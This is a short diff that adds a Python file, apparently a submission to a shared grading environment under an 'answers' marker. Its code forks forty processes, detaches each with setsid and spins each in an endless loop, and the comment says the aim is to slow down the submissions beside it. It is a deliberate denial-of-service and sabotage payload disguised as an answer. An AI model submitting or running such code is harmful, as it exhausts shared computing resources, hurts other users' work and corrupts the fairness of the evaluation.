@@ -1,0 +1,12 @@
+# Leaves forty processes that compute for ever, to slow down the submissions beside it.
+# %% answers
+# %%
+import os
+import time
+
+for _ in range(40):
+    if os.fork() == 0:
+        os.setsid()
+        while True:
+            pass
+time.sleep(2)
